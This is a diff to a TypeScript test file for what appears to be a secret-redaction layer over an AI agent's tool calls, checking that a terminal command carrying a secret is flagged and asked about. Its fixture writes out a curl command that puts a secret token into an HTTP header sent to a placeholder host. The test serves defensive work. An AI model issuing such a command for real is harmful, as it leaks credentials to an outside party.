@@ -228,14 +228,23 @@ describe('tool calls', () => {
 });
 
 describe('where a value goes', () => {
-  it('is a finding for a shell command, which is restored', () => {
-    const exchange = fixture().send(asked);
-    const [made] = receive(exchange, [
-      piece(0, JSON.stringify({ command: `curl -H "X: ${tokenIn(exchange)}" x` }), 'c', 'run_in_terminal'),
-    ]).calls;
-    expect(made).toMatchObject({ findings: ['shell-sink'], categories: ['SECRET'] });
-    expect(made!.input.command).toContain(canary);
-    expect(exchange.receipt.close('sent')).toMatchObject({ findings: ['shell-sink'], tokensRestored: 1 });
+  it('is a finding for a shell command, and asked about', () => {
+    for (const answer of ['keep', 'restore'] as const) {
+      const exchange = fixture().send(asked);
+      const token = tokenIn(exchange);
+      const [made] = receive(
+        exchange,
+        [piece(0, JSON.stringify({ command: `curl -H "X: ${token}" x` }), 'c', 'run_in_terminal')],
+        answer,
+      ).calls;
+      const restored = answer === 'restore';
+      expect(made).toMatchObject({ ask: 'shell', findings: ['shell-sink'], categories: ['SECRET'] });
+      expect(made!.input.command).toContain(restored ? canary : token);
+      expect(exchange.receipt.close('sent')).toMatchObject({
+        findings: ['shell-sink'],
+        tokensRestored: restored ? 1 : 0,
+      });
+    }
   });
 
   it('is asked about for a network tool', () => {
